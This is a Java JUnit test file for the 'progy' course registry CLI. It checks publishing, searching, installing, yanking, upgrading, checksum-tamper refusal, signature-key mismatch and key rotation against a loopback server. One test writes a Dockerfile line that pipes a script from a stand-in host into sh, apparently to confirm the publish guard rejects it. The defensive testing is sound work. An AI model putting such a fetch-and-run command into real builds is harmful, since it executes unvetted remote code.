package dev.progy.cli;

import dev.progy.sync.credentials.ServerTokens;
import java.time.Instant;
import java.util.Optional;
import java.util.Set;
import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.TimeUnit;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * {@code progy publish}, {@code search}, {@code info} and {@code init @scope/name} as a new author and a new student
 * use them, against a real Progy server on loopback.
 */
@DisplayName("The registry from the command line")
@Timeout(value = 3, unit = TimeUnit.MINUTES)
class RegistryCliTest {

    @TempDir
    Path tmp;
    RegistryOnLoopback server;
    CliHarness author;
    CliHarness student;

    @BeforeEach
    void start() throws Exception {
        server = new RegistryOnLoopback(Files.createDirectories(tmp.resolve("server")));
        author = new CliHarness(Files.createDirectories(tmp.resolve("author")));
        server.signIn(author);
        student = new CliHarness(Files.createDirectories(tmp.resolve("student")));
        student.env.put("PROGY_REGISTRY_SERVER", server.url);
    }

    @AfterEach
    void stop() {
        server.close();
    }

    private CliHarness.Result publish(String version, String... more) throws Exception {
        Path course = author.cwd.resolve("course-" + version);
        if (!Files.exists(course)) {
            PublishDryRunTest.sampleAs(course, "@tester/java-basics", version);
        }
        String[] args = new String[3 + more.length];
        args[0] = "publish";
        args[1] = course.toString();
        args[2] = "--no-color";
        System.arraycopy(more, 0, args, 3, more.length);
        return author.run(args);
    }

    private String installedVersion(String ws) throws Exception {
        return CliJson.parse(Files.readString(student.cwd.resolve(ws).resolve(".progy/course/course.json")))
                .path("version").asText();
    }

    @Test
    @DisplayName("an author publishes the sample course and sees each step, then a student finds it, reads its "
            + "versions and installs it with a verified checksum and signature")
    void publishThenInstall() throws Exception {
        CliHarness.Result published = publish("1.0.0");

        assertThat(published.code()).as(published.toString()).isZero();
        assertThat(published.out()).contains("Uploaded @tester/java-basics@1.0.0; the server checks it:",
                "✓ limits", "✓ guard", "- runs", "images", "✓ @tester/java-basics@1.0.0 is live",
                "not verified", "progy init @tester/java-basics");
        // one line per step change, in pipeline order
        List<String> firsts = published.out().lines().filter(l -> l.startsWith("  "))
                .map(l -> l.substring(4).split(" +")[0]).distinct().toList();
        assertThat(firsts).containsSubsequence("limits", "guard", "runs", "links", "ai-review", "images");

        CliHarness.Result search = student.run("search", "java", "--no-color");
        assertThat(search.code()).as(search.toString()).isZero();
        assertThat(search.out()).contains("@tester/java-basics", "1.0.0");
        assertThat(student.run("search", "rust", "--no-color").out()).contains("No course matches 'rust'");

        CliHarness.Result info = student.run("info", "@tester/java-basics", "--no-color");
        assertThat(info.code()).as(info.toString()).isZero();
        String sha = server.storedArchives().get(0).getFileName().toString().replace(".progy", "");
        assertThat(info.out()).contains("1.0.0", "sha256 " + sha, "not verified");
        JsonNode infoJson = CliJson.parse(student.run("info", "@tester/java-basics", "--json").out());
        assertThat(infoJson.path("versions").get(0).path("sha256").asText()).isEqualTo(sha);
        assertThat(infoJson.path("versions").get(0).path("yanked").asBoolean(true)).isFalse();
        JsonNode searchJson = CliJson.parse(student.run("search", "java", "--json").out());
        assertThat(searchJson.get(0).path("latest").asText()).isEqualTo("1.0.0");
        CliHarness.Result unknown = student.run("info", "@tester/nothing");
        assertThat(unknown.code()).isEqualTo(ExitCode.USER_ERROR);
        assertThat(unknown.err()).contains("the registry has no course '@tester/nothing'");

        CliHarness.Result init = student.run("init", "@tester/java-basics", "ws", "--no-color");
        assertThat(init.code()).as(init.toString()).isZero();
        assertThat(installedVersion("ws")).isEqualTo("1.0.0");
        // the download counts as the command line's: it names itself and its version
        assertThat(server.downloads).singleElement().asString()
                .matches("@tester/java-basics@1\\.0\\.0 progy-cli/\\d+\\.\\d+\\.\\d+.*");
        // the server's key was pinned on first use, beside where credentials are kept
        assertThat(student.cwd.resolve(".config-home/progy/registry-keys.json")).isRegularFile();

        CliHarness.Result again = publish("1.0.0");
        assertThat(again.code()).isNotZero();
        assertThat(again.err()).contains("@tester/java-basics@1.0.0 is already published");

        // a new version reaches the student's workspace through progy upgrade, from the registry it came from
        assertThat(publish("1.1.0").code()).isZero();
        CliHarness.Result upgrade = student.run("upgrade", "-C", "ws", "--no-color");
        assertThat(upgrade.code()).as(upgrade.toString()).isZero();
        assertThat(upgrade.out()).contains("upgraded 1.0.0 → 1.1.0");
        assertThat(installedVersion("ws")).isEqualTo("1.1.0");
    }

    @Test
    @DisplayName("a version range installs the newest live version that is not yanked; a yanked one only by its number")
    void rangesAndYanked() throws Exception {
        for (String v : List.of("1.0.0", "1.1.0", "2.0.0")) {
            CliHarness.Result r = publish(v);
            assertThat(r.code()).as(r.toString()).isZero();
        }
        assertThat(server.call("POST", "/api/v1/courses/@tester/java-basics/1.1.0/yank")).isEqualTo(200);

        assertThat(student.run("info", "@tester/java-basics", "--no-color").out()).contains("1.1.0", "yanked");
        assertThat(student.run("init", "@tester/java-basics@^1.0", "a").code()).isZero();
        assertThat(installedVersion("a")).isEqualTo("1.0.0");
        assertThat(student.run("init", "@tester/java-basics@1.1.0", "b").code()).isZero();
        assertThat(installedVersion("b")).isEqualTo("1.1.0");
        assertThat(student.run("init", "@tester/java-basics", "c").code()).isZero();
        assertThat(installedVersion("c")).isEqualTo("2.0.0");

        // an upgrade of a workspace installed by a range stays in that range
        assertThat(publish("1.2.0").code()).isZero();
        CliHarness.Result upgrade = student.run("upgrade", "-C", "a", "--no-color");
        assertThat(upgrade.code()).as(upgrade.toString()).isZero();
        assertThat(installedVersion("a")).isEqualTo("1.2.0");

        CliHarness.Result none = student.run("init", "@tester/java-basics@~1.1", "d");
        assertThat(none.code()).isEqualTo(ExitCode.USER_ERROR);
        assertThat(none.err()).contains("no version of @tester/java-basics matches '~1.1'", "1.1.0 (yanked)");
    }

    @Test
    @DisplayName("a course larger than the server takes is refused before it is uploaded, with the size, the limit "
            + "and what to do; nothing reaches the server")
    void tooLargeIsToldBeforeUploading() throws Exception {
        server.close();
        server = new RegistryOnLoopback(Files.createDirectories(tmp.resolve("small")), "registry-max-archive", "2000");
        author = new CliHarness(Files.createDirectories(tmp.resolve("author-of-a-big-course")));
        server.signIn(author);

        CliHarness.Result r = publish("1.0.0");

        assertThat(r.code()).as(r.toString()).isEqualTo(ExitCode.USER_ERROR);
        assertThat(r.err()).containsPattern("The archive of @tester/java-basics@1\\.0\\.0 is \\d+ KiB, over the 2 KiB "
                + "a course may be on http://127\\.0\\.0\\.1:\\d+; nothing was uploaded\\.")
                .contains("Move large or generated files out of the course", "registry-max-archive");
        assertThat(r.out()).doesNotContain("Uploaded");
        assertThat(server.storedArchives()).isEmpty();
    }

    @Test
    @DisplayName("an author yanks a version with progy yank: installs by name skip it, its exact number still installs, "
            + "--undo takes the mark off; a student may not, and a typo or an unknown version is told")
    void yankFromTheCommandLine() throws Exception {
        for (String v : List.of("1.0.0", "1.1.0")) {
            assertThat(publish(v).code()).isZero();
        }
        CliHarness.Result yank = author.run("yank", "@tester/java-basics@1.1.0", "--no-color");
        assertThat(yank.code()).as(yank.toString()).isZero();
        assertThat(yank.out()).contains("Yanked @tester/java-basics 1.1.0", "progy yank @tester/java-basics@1.1.0 --undo");
        assertThat(student.run("info", "@tester/java-basics", "--no-color").out()).containsPattern("1\\.1\\.0 .*yanked");
        assertThat(student.run("init", "@tester/java-basics", "a").code()).isZero();
        assertThat(installedVersion("a")).isEqualTo("1.0.0");
        assertThat(student.run("init", "@tester/java-basics@1.1.0", "b").code()).isZero();
        assertThat(installedVersion("b")).isEqualTo("1.1.0");

        CliHarness.Result undo = author.run("yank", "@tester/java-basics@1.1.0", "--undo", "--json");
        assertThat(undo.code()).as(undo.toString()).isZero();
        assertThat(CliJson.parse(undo.out()).path("yanked").asBoolean(true)).isFalse();
        assertThat(student.run("init", "@tester/java-basics", "c").code()).isZero();
        assertThat(installedVersion("c")).isEqualTo("1.1.0");

        // another account that may publish only its own scope, a version that is not there, a name without a version
        server.server.people().signUp("ada", "ada@example.org", "correct horse battery staple");
        String ada = server.server.accounts().createToken("ada", Set.of("publish:ada", "read"), Optional.empty(), "t");
        ServerTokens.in(Path.of(student.env.get("XDG_CONFIG_HOME"), "progy")).save(server.url, ada, Optional.of("ada"),
                Instant.now());
        CliHarness.Result notTheirs = student.run("yank", "@tester/java-basics@1.0.0");
        assertThat(notTheirs.code()).isNotZero();
        assertThat(notTheirs.err()).contains("would not yank @tester/java-basics 1.0.0").doesNotContain("Exception");
        CliHarness.Result missing = author.run("yank", "@tester/java-basics@9.9.9");
        assertThat(missing.code()).isNotZero();
        assertThat(missing.err()).contains("There is no published version 9.9.9 of @tester/java-basics");
        CliHarness.Result typo = author.run("yank", "@tester/java-basics");
        assertThat(typo.code()).isEqualTo(ExitCode.USER_ERROR);
        assertThat(typo.err()).contains("is not a course name and an exact version", "progy yank @school/algebra@1.2.0");
    }

    @Test
    @DisplayName("an archive changed on the server's disk is refused with a clear message, and nothing is installed")
    void tamperedBlob() throws Exception {
        assertThat(publish("1.0.0").code()).isZero();
        Path stored = server.storedArchives().get(0);
        byte[] bytes = Files.readAllBytes(stored);
        bytes[bytes.length / 2] ^= 1;
        Files.write(stored, bytes);

        CliHarness.Result init = student.run("init", "@tester/java-basics", "ws");

        assertThat(init.code()).as(init.toString()).isNotZero();
        assertThat(init.err()).contains("Refused to install @tester/java-basics@1.0.0",
                "the archive the server sent is not the one it published", "Nothing was installed")
                .doesNotContain("Exception");
        assertThat(student.cwd.resolve("ws/.progy")).doesNotExist();
    }

    @Test
    @DisplayName("a signature that does not verify with the key pinned for the server is refused, nothing installed")
    void signatureFromAnotherKey() throws Exception {
        assertThat(publish("1.0.0").code()).isZero();
        // this computer pinned another key under the id the server signs with (as if the server's key were swapped)
        JsonNode keys = CliJson.parse(new String(java.net.http.HttpClient.newHttpClient().send(
                java.net.http.HttpRequest.newBuilder(java.net.URI.create(server.url + "/api/v1/registry/keys")).build(),
                java.net.http.HttpResponse.BodyHandlers.ofByteArray()).body(), java.nio.charset.StandardCharsets.UTF_8));
        String id = keys.path("current").asText();
        String other = java.util.Base64.getEncoder().encodeToString(java.security.KeyPairGenerator.getInstance("Ed25519")
                .generateKeyPair().getPublic().getEncoded());
        Path pins = Files.createDirectories(student.cwd.resolve(".config-home/progy")).resolve("registry-keys.json");
        Files.writeString(pins, "{\"formatVersion\":1,\"servers\":{\"" + server.url + "\":{\"keys\":[{\"id\":\"" + id
                + "\",\"algorithm\":\"Ed25519\",\"public_key\":\"" + other + "\"}]}}}");

        CliHarness.Result init = student.run("init", "@tester/java-basics", "ws");

        assertThat(init.code()).as(init.toString()).isNotZero();
        assertThat(init.err()).contains("Refused to install @tester/java-basics@1.0.0", "its signature does not match");
        assertThat(student.cwd.resolve("ws/.progy")).doesNotExist();
    }

    @Test
    @DisplayName("after the server rotates its signing key, a version signed with the new key installs: the pinned "
            + "key endorsed it")
    void rotatedKey() throws Exception {
        assertThat(publish("1.0.0").code()).isZero();
        assertThat(student.run("init", "@tester/java-basics", "one").code()).isZero();
        String rotated;
        try (dev.progy.sync.hub.SyncHub hub = dev.progy.sync.hub.SyncHub.open("sqlite:" + server.dir.resolve("server.db"),
                1, java.time.Clock.systemUTC())) {
            rotated = new dev.progy.server.registry.RegistryKeys(hub.registry(), java.time.Clock.systemUTC()).rotate();
        }
        assertThat(publish("1.1.0").code()).isZero();

        CliHarness.Result init = student.run("init", "@tester/java-basics@1.1.0", "two");

        assertThat(init.code()).as(init.toString()).isZero();
        assertThat(installedVersion("two")).isEqualTo("1.1.0");
        assertThat(Files.readString(student.cwd.resolve(".config-home/progy/registry-keys.json"))).contains(rotated);
    }

    @Test
    @DisplayName("--dry-run on a course with a Guard error shows the refusal and the server receives nothing")
    void dryRunUploadsNothing() throws Exception {
        Path course = PublishDryRunTest.sampleAs(author.cwd.resolve("bad"), "@tester/java-basics", "1.0.0");
        Files.writeString(course.resolve("Dockerfile"), "FROM alpine\nRUN curl -s https://x.example/i.sh | sh\n");

        CliHarness.Result r = author.run("publish", "bad", "--dry-run", "--no-color");

        assertThat(r.code()).isEqualTo(ExitCode.FAILED);
        assertThat(r.out()).contains("[PG-D005]", "✗ the server would refuse this course", "Nothing was uploaded");
        assertThat(server.call("GET", "/api/v1/courses/@tester/java-basics")).isEqualTo(404);
        assertThat(server.storedArchives()).isEmpty();
    }

    @Test
    @DisplayName("a publish the server's checks refuse shows the failed step, the report and where its SARIF is; "
            + "nothing goes live")
    void rejectedOnTheServer() throws Exception {
        server.close();
        server = new RegistryOnLoopback(Files.createDirectories(tmp.resolve("server2")), "registry-links", "on");
        server.signIn(author);
        // a page that is gone: the server's link check (not run by the local checks) refuses the course
        com.sun.net.httpserver.HttpServer web = com.sun.net.httpserver.HttpServer.create(
                new java.net.InetSocketAddress(java.net.InetAddress.getLoopbackAddress(), 0), 0);
        web.createContext("/", x -> {
            x.sendResponseHeaders(404, -1);
            x.close();
        });
        web.start();
        String gone = "http://127.0.0.1:" + web.getAddress().getPort() + "/gone-notes";
        Path course = PublishDryRunTest.sampleAs(author.cwd.resolve("links"), "@tester/java-basics", "1.0.0");
        Path readme = course.resolve("README.md");
        Files.writeString(readme, (Files.exists(readme) ? Files.readString(readme) : "# Course\n")
                + "\nSee [the notes](" + gone + ").\n");

        CliHarness.Result ambiguous = author.run("publish", "links", "--no-color");
        assertThat(ambiguous.err()).contains("logins are saved for 2 servers", "--server <url>");

        CliHarness.Result r;
        try {
            r = author.run("publish", "links", "--no-color", "--server", server.url);
        } finally {
            web.stop(0);
        }

        assertThat(r.code()).as(r.toString()).isEqualTo(ExitCode.FAILED);
        assertThat(r.out()).contains("✗ links", "✗ refused: nothing went live.", "gone-notes",
                "The report as SARIF: " + server.url + "/api/v1/publishes/");
        assertThat(server.call("GET", "/api/v1/courses/@tester/java-basics/1.0.0/archive")).isEqualTo(404);
    }
}
